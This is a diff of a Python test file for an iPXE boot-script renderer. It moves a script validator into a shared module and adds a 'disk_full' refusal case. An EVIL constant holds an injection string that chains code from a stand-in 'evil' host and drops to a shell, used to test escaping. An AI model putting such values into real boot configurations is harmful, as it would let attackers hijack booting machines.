@@ -2,8 +2,6 @@
 
 from __future__ import annotations
 
-import re
-
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -13,64 +11,12 @@ from bootlink_tftp.ipxe import COLUMNS, Text, Token, UnsafeValue, fill, say
 from bootlink_tftp.screens import RETRY_SECONDS, SCREENS, SOON_SECONDS
 from bootlink_tftp.scripts import Asker, Script, autoexec, portal_hosts, render
 from lab.boot_plans import BOOT_ID, MAC, disk, plan, refused
+from lab.ipxe_script import BASE, check
 
-BASE = "tftp://10.77.0.1"
 ASKER = Asker(MAC, BOOT_ID, BASE)
 NOWHERE: frozenset[str] = frozenset()
-# Commands of Debian's iPXE of 2019 (read from the strings of snponly.efi) that our scripts use.
-COMMANDS = {"echo", "set", "clear", "sanhook", "sanboot", "sanunhook", "prompt", "chain", "goto", "isset", "dhcp"}
-MENU_COMMANDS = {"menu", "item", "choose"}
-MENU_SETTINGS = {"${menu-entry}", "${menu-target}", "${menu-image}"}
 CONSOLE_ROWS = 25
 EVIL = "${net0/mac}\n sanboot iscsi:evil || chain http://evil/ && shell ; reboot # \\\r\n:label `<script>"
-
-
-def commands(text: str) -> list[list[str]]:
-    """A script as iPXE takes it apart (src/image/script.c, src/core/exec.c): tokens of each command in turn."""
-    first, *lines = text.split("\n")
-    assert first == "#!ipxe"
-    found: list[list[str]] = []
-    for line in lines:
-        assert not line.endswith("\\")
-        tokens = line.split()
-        if tokens and tokens[0].startswith(":"):
-            tokens = tokens[1:]
-        command: list[str] = []
-        for token in [*tokens, ";"]:
-            assert not token.startswith("#")
-            if token in ("||", "&&", ";"):
-                if command:
-                    found.append(command)
-                command = []
-            else:
-                command.append(token)
-    return found
-
-
-def check(text: str) -> list[list[str]]:
-    """Only our commands, only the settings that we mean, every goto has its label, echo takes no option."""
-    text.encode("ascii")
-    assert "\r" not in text
-    found = commands(text)
-    settings = {"${netX/mac:hexhyp}", "${netX/ip}"}
-    asks = any(command[0] == "menu" for command in found)
-    assert {command[0] for command in found} <= COMMANDS | (MENU_COMMANDS if asks else set())
-    assert set(re.findall(r"\$\{[^}]*\}?", text)) <= settings | (MENU_SETTINGS if asks else set())
-    assert "@menu" not in text
-    labels = re.findall(r"^:(\S+)", text, re.MULTILINE)
-    assert len(labels) == len(set(labels))
-    for command in found:
-        if command[0] == "goto":
-            assert command[1].replace("${menu-entry}", "link") in labels
-        if command[0] == "item":
-            assert command[1] in [label.removeprefix("entry_") for label in labels]
-            assert not [*command, ""][2].startswith("-")
-        if command[0] == "echo":
-            assert not [*command, ""][1].startswith("-")
-        if command[0] == "chain":
-            assert command[1:3] == ["--autofree", "--replace"]
-            assert command[3].startswith(BASE)
-    return found
 
 
 def screen_rows(script: Script) -> int:
@@ -179,7 +125,7 @@ def test_a_forged_entry_shows_a_screen_instead_of_a_menu(name: str) -> None:
     assert (script.kind, script.cause) == ("screen", "bad_plan")
 
 
-@pytest.mark.parametrize("cause", ["no_link", "image_missing", "no_blockstore", "disabled"])
+@pytest.mark.parametrize("cause", ["no_link", "image_missing", "no_blockstore", "disabled", "disk_full"])
 def test_a_refusal_is_shown_with_its_cause_and_remedy(cause: RefusalCause) -> None:
     script = render(ASKER, refused(cause, "The link names win12.", "bootlink image list"), on_link=NOWHERE)
     check(script.text)
@@ -231,7 +177,7 @@ def test_a_plan_without_disks_or_portals_says_so() -> None:
     assert render(ASKER, plan(portals=("[fd00::1]:3260",)), on_link=NOWHERE).cause == "bad_plan"
 
 
-@pytest.mark.parametrize("cause", ["no_link", "image_missing", "no_blockstore", "disabled"])
+@pytest.mark.parametrize("cause", ["no_link", "image_missing", "no_blockstore", "disabled", "disk_full"])
 def test_every_screen_fits_the_console(cause: RefusalCause) -> None:
     long = "a very long explanation of what is wrong with this and that " * 20
     assert screen_rows(render(ASKER, refused(cause, long, long), on_link=NOWHERE)) < CONSOLE_ROWS - 3
